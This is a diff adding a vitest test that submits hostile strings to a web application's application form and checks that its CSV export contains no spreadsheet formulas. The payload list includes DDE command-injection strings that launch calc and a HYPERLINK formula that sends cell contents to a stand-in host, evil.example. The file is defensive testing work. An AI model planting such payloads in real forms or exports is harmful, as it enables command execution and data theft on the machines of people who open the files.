@@ -1,0 +1,51 @@
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { applicationFields, longest } from '#app/applications/application-fields.ts';
+import { eachDatabase } from '#tests/support/each-database.ts';
+import { hostileStrings, textOf } from '#tests/support/hostile-strings.ts';
+import { formulasIn } from '#tests/support/spreadsheets.ts';
+import { type TestSite, goodApplication, openTestSite } from '#tests/support/test-site.ts';
+
+/** Texts that put a formula where a program that reads the file begins a line or a cell. */
+const payloads = [
+  ...[...'=+-@＝＋－＠\t\r\n'].map((sign) => `${sign}1+1`),
+  ...['\n', '\r', '\r\n', '\u2028', '\v', '\f', '\u0085', ';', '\t', ',', '"', '\n"', ';"', '","']
+    .flatMap((end) => ['=', ' =', '"=', '\u200b=', '\ufeff@', '＝'].map((sign) => end + sign))
+    .map((end) => `Rahim${end}cmd|' /C calc'!A0`),
+  'Rahim\n=HYPERLINK("https://evil.example/?"&A1;"Open")',
+  `x"\n=1+1\n"`,
+  `a;b;=1+1;"=2+2`,
+  ';;;=1',
+  '\n\n+1',
+];
+
+eachDatabase(({ url }) => {
+  let site: TestSite;
+  let csv: string;
+  const taken: string[] = [];
+  beforeAll(async () => {
+    site = await openTestSite(url(), { RATE_LIMITS: 'off' });
+    for (const text of [...hostileStrings.map(textOf), ...payloads]) {
+      const fields = applicationFields.filter((field) => field !== 'birth' && field !== 'email');
+      const hostile = fields.map((field) => [field, text.slice(0, longest[field as 'name'])]);
+      const json = { ...goodApplication, ...Object.fromEntries(hostile) };
+      const answer = await site.call('POST', '/api/application', { json });
+      if (answer.status === 201) taken.push(text);
+    }
+    const cookie = await site.signIn();
+    const answer = await site.call('GET', '/api/application/export', { cookie });
+    csv = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer());
+  });
+  afterAll(() => site.close());
+
+  test('no program that reads an export of hostile applications calculates a cell of it', () => {
+    expect(taken.length).toBeGreaterThan(payloads.length + 50);
+    expect(formulasIn(csv)).toEqual([]);
+  });
+
+  test('it begins with the mark of UTF-8 and its headings, and has a line for each application', () => {
+    expect(csv.startsWith('\ufeff"Receipt number","Sent (Dhaka)"')).toBe(true);
+    const records = csv.split('\r\n');
+    expect(records).toHaveLength(taken.length + 2);
+    expect(records.at(-1)).toBe('');
+  });
+});
